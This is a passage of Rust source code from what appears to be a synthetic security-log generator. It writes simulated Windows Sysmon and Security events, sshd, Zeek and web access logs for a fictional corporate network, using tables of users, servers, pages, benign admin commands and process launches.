                out.extend_from_slice(b"$\",\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x3e7");
            } else {
                out.extend_from_slice(b"\"SubjectUserSid\":\"");
                out.extend_from_slice(DOMAIN_SID);
                put_u64(out, USER_RID_BASE + user);
                out.extend_from_slice(b"\",\"SubjectUserName\":\"");
                put_user(out, user);
                out.extend_from_slice(b"\",\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x");
                put_hex(out, self.rng.gen_range(0x10000..0x1000_0000));
            }
            out.extend_from_slice(b"\",\"NewProcessId\":\"0x");
            put_hex(out, self.rng.gen_range(400..30_000) & !3);
            out.extend_from_slice(b"\",\"NewProcessName\":\"");
            out.extend_from_slice(process.image);
            out.extend_from_slice(if system {
                b"\",\"TokenElevationType\":\"%%1936\",\"ProcessId\":\"0x"
            } else {
                b"\",\"TokenElevationType\":\"%%1938\",\"ProcessId\":\"0x"
            });
            put_hex(out, self.rng.gen_range(400..30_000) & !3);
            out.extend_from_slice(b"\",\"CommandLine\":\"");
            out.extend_from_slice(process.command_line);
            out.extend_from_slice(b"\",\"ParentProcessName\":\"");
            out.extend_from_slice(process.parent);
            out.extend_from_slice(if system { b"\",\"MandatoryLabel\":\"S-1-16-16384\"" } else { b"\",\"MandatoryLabel\":\"S-1-16-8192\"" });
        }
    }

    fn win_network(&mut self, out: &mut Vec<u8>, user: u64) {
        self.win_head(out, Host::Ws(user), 3, Channel::Sysmon);
        self.utc_time(out);
        out.extend_from_slice(b",\"ProcessGuid\":\"");
        put_guid(out, &mut self.rng);
        out.extend_from_slice(b"\",\"ProcessId\":\"");
        put_u64(out, self.rng.gen_range(400..30_000) & !3);
        out.extend_from_slice(b"\",\"Image\":\"");
        out.extend_from_slice(pick(&mut self.rng, NET_IMAGES));
        out.extend_from_slice(b"\",\"User\":\"CORP\\\\");
        put_user(out, user);
        out.extend_from_slice(b"\",\"Protocol\":\"tcp\",\"Initiated\":\"true\",\"SourceIsIpv6\":\"false\",\"SourceIp\":\"");
        put_ipv4(out, self.world.ws_ip(user));
        out.extend_from_slice(b"\",\"SourcePort\":\"");
        put_u64(out, self.port());
        out.extend_from_slice(b"\",\"DestinationIsIpv6\":\"false\",\"DestinationIp\":\"");
        put_ipv4(out, self.world.dest_ip(&mut self.rng));
        out.extend_from_slice(if self.rng.gen_range(0..10u32) == 0 {
            b"\",\"DestinationPort\":\"80\",\"DestinationPortName\":\"http\""
        } else {
            b"\",\"DestinationPort\":\"443\",\"DestinationPortName\":\"https\""
        });
    }

    fn win_process_access(&mut self, out: &mut Vec<u8>, user: u64) {
        self.win_head(out, Host::Ws(user), 10, Channel::Sysmon);
        self.utc_time(out);
        let access = &ACCESSES[self.rng.gen_range(0..ACCESSES.len())];
        out.extend_from_slice(b",\"SourceProcessGUID\":\"");
        put_guid(out, &mut self.rng);
        out.extend_from_slice(b"\",\"SourceProcessId\":\"");
        put_u64(out, self.rng.gen_range(400..30_000) & !3);
        out.extend_from_slice(b"\",\"SourceImage\":\"");
        out.extend_from_slice(access.source);
        out.extend_from_slice(b"\",\"TargetProcessGUID\":\"");
        put_guid(out, &mut self.rng);
        out.extend_from_slice(b"\",\"TargetProcessId\":\"");
        put_u64(out, self.rng.gen_range(400..30_000) & !3);
        out.extend_from_slice(b"\",\"TargetImage\":\"");
        out.extend_from_slice(access.target);
        out.extend_from_slice(b"\",\"GrantedAccess\":\"");
        out.extend_from_slice(access.granted);
        out.extend_from_slice(b"\",\"CallTrace\":\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2c13e\",\"SourceUser\":\"NT AUTHORITY\\\\SYSTEM\",\"TargetUser\":\"");
        if access.user_target {
            out.extend_from_slice(b"CORP\\\\");
            put_user(out, user);
        } else {
            out.extend_from_slice(b"NT AUTHORITY\\\\SYSTEM");
        }
        out.push(b'"');
    }

    fn target_user(&mut self, out: &mut Vec<u8>, user: u64) {
        out.extend_from_slice(b"\"TargetUserSid\":\"");
        out.extend_from_slice(DOMAIN_SID);
        put_u64(out, USER_RID_BASE + user);
        out.extend_from_slice(b"\",\"TargetUserName\":\"");
        put_user(out, user);
        out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\"");
    }

    fn utc_time(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(b"\"UtcTime\":\"");
        out.extend_from_slice(&self.clock.iso[..10]);
        out.push(b' ');
        out.extend_from_slice(&self.clock.iso[11..]);
        out.push(b'.');
        put_padded(out, self.clock.millis(), 3);
        out.push(b'"');
    }
}

/// Writes `cfg`'s whole stream to `w`; returns the number of records written.
pub fn write_all(cfg: &GeneratorConfig, w: &mut impl Write) -> io::Result<u64> {
    let mut generator = Generator::new(cfg.clone());
    let mut buf = Vec::with_capacity(1 << 17);
    let mut records = 0;
    while generator.next_line(&mut buf).is_some() {
        records += 1;
        if buf.len() >= 1 << 16 {
            w.write_all(&buf)?;
            buf.clear();
        }
    }
    w.write_all(&buf)?;
    w.flush()?;
    Ok(records)
}

/// Writes `cfg`'s stream into `dir` (created if missing), one valid file per format: for `Mixed`
/// `sshd.log`, `access.log`, `conn.log` (Zeek JSON) and `windows.json`, else the one file of
/// [`GenFormat::file_name`]. Returns each file with its record count, every file listed even
/// when empty.
pub fn write_split(cfg: &GeneratorConfig, dir: &Path) -> io::Result<Vec<(PathBuf, u64)>> {
    std::fs::create_dir_all(dir)?;
    let formats: Vec<GenFormat> = match cfg.format {
        GenFormat::Mixed => MIXED_PARTS.to_vec(),
        single => vec![single],
    };
    let mut files = Vec::with_capacity(formats.len());
    for format in &formats {
        let path = dir.join(format.file_name());
        let writer = BufWriter::with_capacity(1 << 16, File::create(&path)?);
        files.push((path, writer, 0u64));
    }
    let mut generator = Generator::new(cfg.clone());
    let mut line = Vec::with_capacity(1024);
    while let Some(format) = generator.next_line(&mut line) {
        // Every format next_line returns is one of `formats` (Mixed yields only its parts).
        let slot = formats.iter().position(|f| *f == format).unwrap_or(0);
        let (_, writer, count) = &mut files[slot];
        writer.write_all(&line)?;
        *count += 1;
        line.clear();
    }
    let mut written = Vec::with_capacity(files.len());
    for (path, mut writer, count) in files {
        writer.flush()?;
        written.push((path, count));
    }
    Ok(written)
}

// ---- time --------------------------------------------------------------------------------------

/// Simulated event time, with the text forms of the current second cached: the second changes
/// only every `rate` records, so formatting dates costs nothing per line.
struct Clock {
    start_us: i64,
    elapsed_us: f64,
    mean_gap_us: f64,
    now_us: i64,
    started: bool,
    second: i64,
    /// `Jan 15 08:00:00`
    syslog: Vec<u8>,
    /// `15/Jan/2024:08:00:00 +0000`
    clf: Vec<u8>,
    /// `2024-01-15T08:00:00`
    iso: Vec<u8>,
}

impl Clock {
    fn new(start_ms: i64, rate: f64) -> Self {
        let start_us = start_ms.saturating_mul(1000);
        let mut clock = Clock {
            start_us,
            elapsed_us: 0.0,
            mean_gap_us: 1e6 / rate,
            now_us: start_us,
            started: false,
            second: i64::MIN,
            syslog: Vec::with_capacity(16),
            clf: Vec::with_capacity(32),
            iso: Vec::with_capacity(24),
        };
        clock.render();
        clock
    }

    /// Advances by a jittered gap of mean `1/rate`; the first record sits at the start.
    fn tick(&mut self, rng: &mut SmallRng) {
        if self.started {
            self.elapsed_us += self.mean_gap_us * rng.gen_range(0.5..1.5);
        }
        self.started = true;
        self.now_us = self.start_us.saturating_add(self.elapsed_us as i64);
        self.render();
    }

    fn render(&mut self) {
        let second = self.now_us.div_euclid(1_000_000);
        if second == self.second {
            return;
        }
        self.second = second;
        let (y, mo, d) = time::civil_from_days(second.div_euclid(86_400));
        let in_day = second.rem_euclid(86_400) as u64;
        let (h, mi, s) = (in_day / 3600, in_day / 60 % 60, in_day % 60);
        let year = y.clamp(0, 9999) as u64;
        let month = MONTHS[(mo as usize).clamp(1, 12) - 1];

        self.syslog.clear();
        self.syslog.extend_from_slice(month);
        self.syslog.push(b' ');
        if d < 10 {
            self.syslog.push(b' ');
        }
        put_u64(&mut self.syslog, d as u64);
        self.syslog.push(b' ');
        put_hms(&mut self.syslog, h, mi, s, b':');

        self.clf.clear();
        put_padded(&mut self.clf, d as u64, 2);
        self.clf.push(b'/');
        self.clf.extend_from_slice(month);
        self.clf.push(b'/');
        put_padded(&mut self.clf, year, 4);
        self.clf.push(b':');
        put_hms(&mut self.clf, h, mi, s, b':');
        self.clf.extend_from_slice(b" +0000");

        self.iso.clear();
        put_padded(&mut self.iso, year, 4);
        self.iso.push(b'-');
        put_padded(&mut self.iso, mo as u64, 2);
        self.iso.push(b'-');
        put_padded(&mut self.iso, d as u64, 2);
        self.iso.push(b'T');
        put_hms(&mut self.iso, h, mi, s, b':');
    }

    fn millis(&self) -> u64 {
        (self.now_us.rem_euclid(1_000_000) / 1000) as u64
    }

    /// Zeek's `ts`: epoch seconds with microseconds.
    fn put_epoch_micros(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(itoa::Buffer::new().format(self.second).as_bytes());
        out.push(b'.');
        put_padded(out, self.now_us.rem_euclid(1_000_000) as u64, 6);
    }
}

/// Zeek's `#open`/`#close` stamp: `2024-01-15-08-00-00`.
fn put_zeek_stamp(out: &mut Vec<u8>, ms: i64) {
    let second = ms.div_euclid(1000);
    let (y, mo, d) = time::civil_from_days(second.div_euclid(86_400));
    let in_day = second.rem_euclid(86_400) as u64;
    put_padded(out, y.clamp(0, 9999) as u64, 4);
    out.push(b'-');
    put_padded(out, mo as u64, 2);
    out.push(b'-');
    put_padded(out, d as u64, 2);
    out.push(b'-');
    put_hms(out, in_day / 3600, in_day / 60 % 60, in_day % 60, b'-');
}

fn put_hms(out: &mut Vec<u8>, h: u64, m: u64, s: u64, sep: u8) {
    put_padded(out, h, 2);
    out.push(sep);
    put_padded(out, m, 2);
    out.push(sep);
    put_padded(out, s, 2);
}

// ---- entities ----------------------------------------------------------------------------------

/// The entity populations; every name and address is a pure function of an index.
struct World {
    /// Users, each with a workstation `WS-nnnnn` at an address in 10.1.0.0 and up.
    users: u64,
    /// Servers per role (fewer for some, see [`World::role_count`]); server `j` has role
    /// `ROLES[j % ROLES.len()]`, number `j / ROLES.len() + 1` and address 10.0.x.y.
    per_role: u64,
    /// Internet clients of the web site, internet scanners, VPN users' home addresses.
    clients: u64,
    /// Internet destinations of outbound traffic.
    dests: u64,
}

#[derive(Clone, Copy)]
enum Role {
    Dc = 0,
    Web = 1,
    File = 4,
    Bastion = 7,
    Vpn = 10,
}

/// Roles (indexes into [`ROLES`]) of the servers that run Windows and log Security events.
const WINDOWS_ROLES: &[u64] = &[0, 2, 3, 4, 5];
/// Roles of the servers that run Linux and log to syslog.
const LINUX_ROLES: &[u64] = &[1, 6, 7, 8, 9, 10, 11];

const ROLES: [&[u8]; 12] = [b"dc", b"web", b"app", b"db", b"file", b"mail", b"build", b"bastion", b"cache", b"log", b"vpn", b"k8s"];

#[derive(Clone, Copy)]
enum Host {
    Ws(u64),
    Server(u64),
}

impl World {
    fn new(entities: u64) -> Self {
        World { users: entities, per_role: (entities / 600).clamp(2, 200), clients: entities, dests: (entities / 5).clamp(50, 100_000) }
    }

    fn user(&self, rng: &mut SmallRng) -> u64 {
        scatter(skewed(rng, self.users), self.users)
    }

    fn client(&self, rng: &mut SmallRng) -> u64 {
        scatter(skewed(rng, self.clients), self.clients)
    }

    fn servers(&self) -> u64 {
        self.per_role * ROLES.len() as u64
    }

    /// How many servers a role has: a site runs a few domain controllers, bastions and VPN
    /// gateways, however large it is.
    fn role_count(&self, role: u64) -> u64 {
        match role {
            0 => self.per_role.min(3),
            7 | 10 => self.per_role.min(2),
            _ => self.per_role,
        }
    }

    fn server(&self, rng: &mut SmallRng) -> u64 {
        let j = scatter(skewed(rng, self.servers()), self.servers());
        let role = j % ROLES.len() as u64;
        role + ROLES.len() as u64 * (j / ROLES.len() as u64 % self.role_count(role))
    }

    /// A server with one of `roles`: popular servers stay popular, whatever their role.
    fn server_in(&self, rng: &mut SmallRng, roles: &[u64]) -> u64 {
        let j = scatter(skewed(rng, self.servers()), self.servers());
        let mut role = j % ROLES.len() as u64;
        if !roles.contains(&role) {
            role = roles[(role % roles.len() as u64) as usize];
        }
        role + ROLES.len() as u64 * (j / ROLES.len() as u64 % self.role_count(role))
    }

    /// The `k`th of the Windows servers `user` works with, a pure function of both.
    fn user_server(&self, user: u64, k: u64) -> u64 {
        self.server_in(&mut SmallRng::seed_from_u64(splitmix(user * 3 + k)), WINDOWS_ROLES)
    }

    fn server_of(&self, rng: &mut SmallRng, role: Role) -> u64 {
        let role = role as u64;
        role + ROLES.len() as u64 * skewed(rng, self.role_count(role))
    }

    fn ws_ip(&self, user: u64) -> [u8; 4] {
        [10, (1 + user / 64_000 % 254) as u8, (user / 250 % 256) as u8, (1 + user % 250) as u8]
    }

    fn server_ip(&self, server: u64) -> [u8; 4] {
        [10, 0, (server / 250 % 256) as u8, (1 + server % 250) as u8]
    }

    fn client_ip(&self, client: u64) -> [u8; 4] {
        public_ip(client)
    }

    /// Scanners are a separate, flatter population: internet noise comes from everywhere.
    fn scanner_ip(&self, rng: &mut SmallRng) -> [u8; 4] {
        public_ip((1 << 40) + rng.gen_range(0..self.clients * 4))
    }

    fn dest_ip(&self, rng: &mut SmallRng) -> [u8; 4] {
        public_ip((1 << 48) + scatter(skewed(rng, self.dests), self.dests))
    }

    fn put_server(&self, out: &mut Vec<u8>, server: u64) {
        out.extend_from_slice(ROLES[(server % ROLES.len() as u64) as usize]);
        out.push(b'-');
        put_padded(out, server / ROLES.len() as u64 + 1, 2);
    }

    fn put_server_upper(&self, out: &mut Vec<u8>, server: u64) {
        let from = out.len();
        self.put_server(out, server);
        out[from..].make_ascii_uppercase();
    }

    fn put_host(&self, out: &mut Vec<u8>, host: Host) {
        match host {
            Host::Ws(user) => {
                out.extend_from_slice(b"WS-");
                put_padded(out, user + 1, 5);
            }
            Host::Server(server) => self.put_server(out, server),
        }
    }

    fn put_host_upper(&self, out: &mut Vec<u8>, host: Host) {
        let from = out.len();
        self.put_host(out, host);
        out[from..].make_ascii_uppercase();
    }
}

/// A rank in `[0, n)` with P(k) roughly proportional to 1/(k+1) (Zipf, s = 1): a uniformly
/// chosen power-of-two bucket, then uniform within it. Integer-only, so it is the same everywhere.
fn skewed(rng: &mut SmallRng, n: u64) -> u64 {
    if n <= 1 {
        return 0;
    }
    let buckets = 64 - n.leading_zeros();
    let lo = 1u64 << rng.gen_range(0..buckets);
    let hi = (lo << 1).min(n + 1);
    rng.gen_range(lo..hi) - 1
}

/// Maps a popularity rank to an entity index, so the busiest entities are not indexes 0, 1, 2.
fn scatter(rank: u64, n: u64) -> u64 {
    ((rank as u128 * 2_654_435_761 + 7) % n.max(1) as u128) as u64
}

fn splitmix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A routable-looking IPv4 address for an index, in /8s that real internet traffic comes from.
fn public_ip(index: u64) -> [u8; 4] {
    let h = splitmix(index ^ 0x5eed_e47e_7e1a_1b0b);
    [PUBLIC_FIRST_OCTETS[(h % PUBLIC_FIRST_OCTETS.len() as u64) as usize], (h >> 8) as u8, (h >> 16) as u8, (1 + (h >> 24) % 254) as u8]
}

fn is_local(ip: [u8; 4]) -> bool {
    ip[0] == 10
}

struct Conn {
    uid: [u8; 18],
    orig: [u8; 4],
    orig_p: u64,
    resp: [u8; 4],
    resp_p: u64,
    proto: &'static [u8],
    service: Option<&'static [u8]>,
    state: &'static [u8],
    history: Option<&'static [u8]>,
    duration_us: Option<u64>,
    bytes: Option<(u64, u64)>,
    orig_pkts: u64,
    resp_pkts: u64,
}

impl Conn {
    /// IP-level byte counts: payload plus per-packet IP and transport headers.
    fn ip_bytes(&self) -> (u64, u64) {
        let header = if self.proto == b"tcp" { 52 } else { 28 };
        let (orig, resp) = self.bytes.unwrap_or((0, 0));
        let orig_header = if self.bytes.is_none() && self.proto == b"tcp" { 44 } else { header };
        (orig + self.orig_pkts * orig_header, resp + self.resp_pkts * header)
    }
}

#[derive(Clone, Copy)]
enum Channel {
    Success,
    Failure,
    Sysmon,
}

// ---- writing helpers ---------------------------------------------------------------------------

fn pick<'a>(rng: &mut SmallRng, table: &[&'a [u8]]) -> &'a [u8] {
    table[rng.gen_range(0..table.len())]
}

fn put_u64(out: &mut Vec<u8>, v: u64) {
    out.extend_from_slice(itoa::Buffer::new().format(v).as_bytes());
}

fn put_padded(out: &mut Vec<u8>, v: u64, width: usize) {
    let mut buf = itoa::Buffer::new();
    let digits = buf.format(v).as_bytes();
    for _ in digits.len()..width {
        out.push(b'0');
    }
    out.extend_from_slice(digits);
}

fn put_hex(out: &mut Vec<u8>, v: u64) {
    let digits = ((64 - v.leading_zeros() as usize).max(1)).div_ceil(4);
    for i in (0..digits).rev() {
        out.push(HEX_LOWER[((v >> (i * 4)) & 15) as usize]);
    }
}

/// Seconds with six decimals, as Zeek writes intervals.
fn put_micros(out: &mut Vec<u8>, us: u64) {
    put_u64(out, us / 1_000_000);
    out.push(b'.');
    put_padded(out, us % 1_000_000, 6);
}

fn put_ipv4(out: &mut Vec<u8>, ip: [u8; 4]) {
    for (i, octet) in ip.iter().enumerate() {
        if i > 0 {
            out.push(b'.');
        }
        put_u64(out, *octet as u64);
    }
}

/// A global-unicast IPv6 address for a client index (`2a02:…`, a range European ISPs use).
fn put_ipv6(out: &mut Vec<u8>, client: u64) {
    let h = splitmix(client ^ 0x0006_0006);
    out.extend_from_slice(b"2a02:");
    put_hex(out, 0x1000 + (h & 0xfff));
    out.push(b':');
    put_hex(out, (h >> 12) & 0xffff);
    out.push(b':');
    put_hex(out, (h >> 28) & 0xffff);
    out.extend_from_slice(b"::");
    put_hex(out, 1 + ((h >> 44) & 0xfffe));
}

fn put_guid(out: &mut Vec<u8>, rng: &mut SmallRng) {
    let (a, b) = (rng.next_u64(), rng.next_u64());
    out.push(b'{');
    for nibble in 0..32 {
        if matches!(nibble, 8 | 12 | 16 | 20) {
            out.push(b'-');
        }
        let word = if nibble < 16 { a } else { b };
        out.push(HEX_LOWER[((word >> ((nibble % 16) * 4)) & 15) as usize]);
    }
    out.push(b'}');
}

/// The attacker's own machine as Windows names it in `WorkstationName`: `WIN-` and 11
/// characters, as a fresh Windows install names itself; background hosts are `WS-nnnnn`.
fn put_attacker_host(out: &mut Vec<u8>, slot: u64) {
    const CHARS: &[u8; 36] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
    let mut h = splitmix(slot ^ 0x0077_1e57);
    out.extend_from_slice(b"WIN-");
    for _ in 0..11 {
        out.push(CHARS[(h % 36) as usize]);
        h /= 36;
    }
}

/// `first.last`, with a number once the name combinations run out.
fn put_user(out: &mut Vec<u8>, user: u64) {
    let first = FIRST_NAMES.len() as u64;
    let last = LAST_NAMES.len() as u64;
    out.extend_from_slice(FIRST_NAMES[(user % first) as usize]);
    out.push(b'.');
    out.extend_from_slice(LAST_NAMES[(user / first % last) as usize]);
    let round = user / (first * last);
    if round > 0 {
        put_u64(out, round + 1);
    }
}

/// The user's (fixed) SSH key: type and unpadded base64 SHA256 fingerprint, as sshd logs it.
fn put_key_fingerprint(out: &mut Vec<u8>, user: u64) {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut h = splitmix(user ^ 0x55aa);
    out.extend_from_slice(match h % 4 {
        0 | 1 => b"ED25519 SHA256:",
        2 => b"RSA SHA256:",
        _ => b"ECDSA SHA256:",
    });
    for i in 0..43 {
        if i % 10 == 0 {
            h = splitmix(h);
        }
        out.push(B64[((h >> ((i % 10) * 6)) & 63) as usize]);
    }
}

// ---- tables ------------------------------------------------------------------------------------

const HEX_LOWER: &[u8; 16] = b"0123456789abcdef";
const HEX_UPPER: &[u8; 16] = b"0123456789ABCDEF";
const BASE62: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const MONTHS: [&[u8]; 12] = [b"Jan", b"Feb", b"Mar", b"Apr", b"May", b"Jun", b"Jul", b"Aug", b"Sep", b"Oct", b"Nov", b"Dec"];

const DOMAIN_SID: &[u8] = b"S-1-5-21-3623811015-3361044348-30300820-";
const USER_RID_BASE: u64 = 1_105;
const SERVICE_RID_BASE: u64 = 1_050;
const SERVER_RID_BASE: u64 = 600_000;
/// RIDs of the attackers' accounts: above every background user's.
const ATTACKER_RID_BASE: u64 = 900_000;

const PUBLIC_FIRST_OCTETS: [u8; 40] = [
    5, 23, 31, 37, 45, 46, 51, 62, 66, 77, 78, 80, 81, 82, 84, 85, 87, 89, 91, 93, 94, 95, 103, 104, 109, 114, 118, 122, 141, 151, 154, 176, 178, 185, 188,
    190, 193, 195, 203, 212,
];

const FIRST_NAMES: [&[u8]; 64] = [
    b"alice", b"bob", b"carol", b"dave", b"erin", b"frank", b"grace", b"heidi", b"ivan", b"judy", b"mallory", b"nick", b"olivia", b"peggy", b"rupert",
    b"sybil", b"trent", b"victor", b"walter", b"wendy", b"aaron", b"bella", b"chen", b"diana", b"emma", b"farid", b"gina", b"hugo", b"irene", b"jamal",
    b"kate", b"liam", b"maria", b"noah", b"oscar", b"priya", b"quinn", b"rosa", b"sam", b"tara", b"umar", b"vera", b"will", b"xena", b"yusuf", b"zoe", b"anna",
    b"ben", b"clara", b"dmitri", b"elena", b"felix", b"hana", b"igor", b"jonas", b"kenji", b"lena", b"marco", b"nina", b"omar", b"paula", b"raj", b"sofia",
    b"tom",
];

const LAST_NAMES: [&[u8]; 64] = [
    b"smith",
    b"jones",
    b"garcia",
    b"miller",
    b"davis",
    b"lopez",
    b"wilson",
    b"anderson",
    b"thomas",
    b"taylor",
    b"moore",
    b"jackson",
    b"martin",
    b"lee",
    b"perez",
    b"thompson",
    b"white",
    b"harris",
    b"clark",
    b"lewis",
    b"walker",
    b"hall",
    b"allen",
    b"young",
    b"king",
    b"wright",
    b"scott",
    b"green",
    b"baker",
    b"adams",
    b"nelson",
    b"hill",
    b"campbell",
    b"mitchell",
    b"roberts",
    b"carter",
    b"phillips",
    b"evans",
    b"turner",
    b"torres",
    b"parker",
    b"collins",
    b"edwards",
    b"stewart",
    b"morris",
    b"murphy",
    b"cook",
    b"rogers",
    b"morgan",
    b"cooper",
    b"peterson",
    b"reed",
    b"bailey",
    b"bell",
    b"kim",
    b"wang",
    b"novak",
    b"weber",
    b"schmidt",
    b"rossi",
    b"dubois",
    b"silva",
    b"tanaka",
    b"ivanova",
];

const INVALID_USERS: &[&[u8]] = &[
    b"admin",
    b"test",
    b"user",
    b"oracle",
    b"postgres",
    b"ubuntu",
    b"guest",
    b"ftpuser",
    b"pi",
    b"git",
    b"support",
    b"ubnt",
    b"mysql",
    b"deploy",
    b"jenkins",
    b"hadoop",
    b"minecraft",
    b"steam",
    b"demo",
    b"www",
    b"nagios",
    b"tomcat",
    b"ansible",
    b"vagrant",
];

const SUDO_COMMANDS: &[&[u8]] = &[
    b"/usr/bin/systemctl restart nginx",
    b"/usr/bin/systemctl status postgresql",
    b"/usr/bin/apt-get update",
    b"/usr/bin/apt-get install -y htop",
    b"/usr/bin/journalctl -u nginx --since today",
    b"/usr/bin/tail -n 200 /var/log/syslog",
    b"/usr/bin/docker ps",
    b"/usr/bin/docker compose up -d",
    b"/usr/bin/vim /etc/nginx/sites-available/default",
    b"/usr/sbin/service cron reload",
    b"/usr/bin/du -sh /var/lib/docker",
    b"/bin/ls -la /var/log/nginx",
];

const CRON_JOBS: &[(&[u8], &[u8])] = &[
    (b"root", b"   cd / && run-parts --report /etc/cron.hourly"),
    (b"root", b"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"),
    (b"root", b"command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    (b"root", b"/usr/local/bin/backup.sh > /dev/null 2>&1"),
    (b"www-data", b"php /var/www/html/cron.php > /dev/null 2>&1"),
    (b"postgres", b"/usr/local/bin/pg_dump_nightly.sh"),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum PageKind {
    Page,
    /// A page that also takes form posts.
    Form,
    Asset,
    Image,
    Api,
    /// The path ends in `/products/`; an id follows.
    Product,
    /// The path ends in `?q=`; a word and a page number follow.
    Search,
    /// The path ends in `/items/`; an id and a query follow.
    ApiItem,
}

// Ordered by popularity: `skewed` picks the first entries most.
const PAGES: &[(&[u8], PageKind)] = &[
    (b"/", PageKind::Page),
    (b"/css/site.min.css", PageKind::Asset),
    (b"/js/app.min.js", PageKind::Asset),
    (b"/images/logo.png", PageKind::Image),
    (b"/products/", PageKind::Product),
    (b"/favicon.ico", PageKind::Image),
    (b"/search?q=", PageKind::Search),
    (b"/api/v1/cart", PageKind::Api),
    (b"/products", PageKind::Page),
    (b"/js/vendor.min.js", PageKind::Asset),
    (b"/api/v1/items/", PageKind::ApiItem),
    (b"/images/hero.jpg", PageKind::Image),
    (b"/login", PageKind::Form),
    (b"/account", PageKind::Form),
    (b"/cart", PageKind::Form),
    (b"/fonts/inter-var.woff2", PageKind::Asset),
    (b"/api/v1/session", PageKind::Api),
    (b"/blog/", PageKind::Page),
    (b"/blog/2023/12/winter-sale", PageKind::Page),
    (b"/about", PageKind::Page),
    (b"/contact", PageKind::Form),
    (b"/checkout", PageKind::Form),
    (b"/robots.txt", PageKind::Asset),
    (b"/sitemap.xml", PageKind::Asset),
    (b"/api/v1/recommendations", PageKind::Api),
    (b"/images/banner-2024.webp", PageKind::Image),
    (b"/help/shipping", PageKind::Page),
    (b"/help/returns", PageKind::Page),
    (b"/apple-touch-icon.png", PageKind::Image),
    (b"/feed.xml", PageKind::Asset),
];

/// Ids of discontinued products: the only product and item ids answered 404.
const DISCONTINUED: &[u64] = &[1013, 1077, 1210, 1388, 2042, 2967, 3501, 4410];

/// Pages of the site that link to others, by popularity.
const REFERRER_PATHS: &[&[u8]] =
    &[b"/", b"/products", b"/search?q=shoes", b"/products/1042", b"/cart", b"/blog/", b"/account", b"/products/1007", b"/checkout", b"/login"];

const SEARCH_WORDS: &[&[u8]] = &[
    b"shoes",
    b"laptop",
    b"headphones",
    b"coffee+maker",
    b"usb-c+cable",
    b"backpack",
    b"running+shoes",
    b"monitor",
    b"desk+lamp",
    b"keyboard",
    b"gift+card",
    b"winter+jacket",
];

/// The first `BROWSERS` entries of [`USER_AGENTS`] are browsers; crawlers and tools follow.
const BROWSERS: usize = 8;

const USER_AGENTS: &[&[u8]] = &[
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    b"Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    b"curl/8.4.0",
    b"python-requests/2.31.0",
];

/// A benign process launch: fields already JSON-escaped.
struct Proc {
    image: &'static [u8],
    command_line: &'static [u8],
    parent: &'static [u8],
    parent_command_line: &'static [u8],
    system: bool,
}

const EXPLORER: &[u8] = br"C:\\Windows\\explorer.exe";
const SERVICES: &[u8] = br"C:\\Windows\\System32\\services.exe";

// Ordered by frequency: `skewed` picks the first entries most.
const PROCS: &[Proc] = &[
    Proc { image: br"C:\\Windows\\System32\\svchost.exe", command_line: br"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", parent: SERVICES, parent_command_line: br"C:\\Windows\\system32\\services.exe", system: true },
    Proc { image: br"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", command_line: br#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=7"#, parent: br"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", parent_command_line: br#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""#, system: false },
    Proc { image: br"C:\\Windows\\System32\\conhost.exe", command_line: br"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", system: true },
